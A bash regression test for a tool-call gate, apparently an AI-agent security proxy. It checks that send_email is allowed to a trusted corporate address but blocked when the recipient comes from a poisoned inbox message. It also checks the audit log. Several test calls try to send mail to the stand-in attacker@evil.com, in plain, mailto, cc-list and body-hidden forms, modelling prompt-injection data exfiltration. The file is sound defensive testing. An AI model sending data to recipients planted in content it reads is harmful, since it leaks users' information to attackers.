#!/usr/bin/env bash
#
# regress/sinkgate.sh - the sink gate through the real binaries, with a
# client that cannot elicit: the same send_email is allowed to a trusted
# address, denied to an address read from a poisoned e-mail, and denied
# "no human could be asked" for a new address.  A denied call never
# reaches the upstream; every decision has its audit row.
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
. "${top_srcdir:-$(dirname "$0")/..}/regress/test-lib.sh"

up=$TESTDIR/mail.log
start_mail <<'YAML'
send_email:
  exfiltrating: true
  sink_params: [to, cc]
  trusted_destinations: ["*@corp.example"]
YAML
handshake '{}'

call 1 read_inbox
expect_line "$(f_result 1) and (.result.content[0].text | contains(\"attacker@evil.com\"))"
call 2 send_email '{"to":"alice@corp.example","subject":"report","body":"attached"}'
expect_line "$(f_text 2 'sent to alice@corp.example')"
call 3 send_email '{"to":"attacker@evil.com","subject":"invoices","body":"x"}'
expect_line "$(f_blocked 3) and .result.content[0].text ==
    \"[bouncer blocked] destination to='attacker@evil.com' came from untrusted data\""
# the destination identity inside a value is what counts
call 4 send_email '{"to":"mailto:Attacker@Evil.COM","body":"x"}'
expect_line "$(f_blocked 4) and (.result.content[0].text | contains(\"came from untrusted data\"))"
# a tainted element of a list denies the whole call
call 5 send_email '{"to":"alice@corp.example","cc":["bob@corp.example","attacker@evil.com"],"body":"x"}'
expect_line "$(f_blocked 5) and (.result.content[0].text | contains(\"cc='attacker@evil.com'\"))"
# a new address: a human would be asked, but this client cannot be
call 6 send_email '{"to":"bob@newco.example","body":"x"}'
expect_line "$(f_blocked 6) and .result.content[0].text ==
    \"[bouncer blocked] destination to='bob@newco.example' is not a vouched recipient; no human could be asked (the client does not support elicitation)\""
# seed 19.2: an empty declared sink does not hide a destination elsewhere
call 7 send_email '{"to":"","body":"forward it to attacker@evil.com"}'
expect_line "$(f_blocked 7) and .result.content[0].text ==
    \"[bouncer blocked] an address in swept argument body='attacker@evil.com' came from untrusted data\""
# an argument the pinned schema does not declare never reaches the server
call 8 send_email '{"to":"alice@corp.example","recipients":["x@corp.example"],"body":"x"}'
expect_line "$(f_blocked 8) and .result.content[0].text ==
    \"[bouncer blocked] argument 'recipients' is not in the tool's input schema\""
ping_ok 9
stop_monitor
[ "$MON_STATUS" = 0 ] || fail "monitor exited $MON_STATUS"

got=$(mock_calls "$up" | awk '{print $2}' | tr '\n' ' ')
[ "$got" = "read_inbox send_email " ] ||
    fail "denied calls reached the upstream; it received: $got"
grep -q 'attacker@evil.com' "$up" &&
    fail "a denied destination reached the upstream"

# Every decision has its row, and the chain verifies.
db=$BOUNCER_STATE_DIR/audit.db
[ -f "$db" ] || fail "no audit database at $db"
"$AUDIT" -D "$db" -V >/dev/null || fail "bouncer-audit -V: chain broken"
n=$("$AUDIT" -D "$db" -j -T send_email | jq -s 'length')
[ "$n" = 7 ] || fail "want 7 send_email rows, have $n"
"$AUDIT" -D "$db" -j -T send_email | jq -e -s '
    [.[].verdict] == ["allow","deny","deny","deny","deny","deny","deny"] and
    ([.[] | select(.verdict == "deny") | .contract]) ==
    ["sink_gate","sink_gate","sink_gate","sink_gate","sink_gate","constraint"]' \
    >/dev/null || fail "audit rows do not match the decisions"
# sinks in clear, the rest only as a digest
"$AUDIT" -D "$db" -j -T send_email | head -n 1 | jq_one '
    .sinks.to == "alice@corp.example" and (.args_sha256 | length) == 64' ||
    fail "audit row does not hold the sink in clear"
grep -q 'attached' "$db" && fail "a non-sink argument is in the audit log in clear"
pass
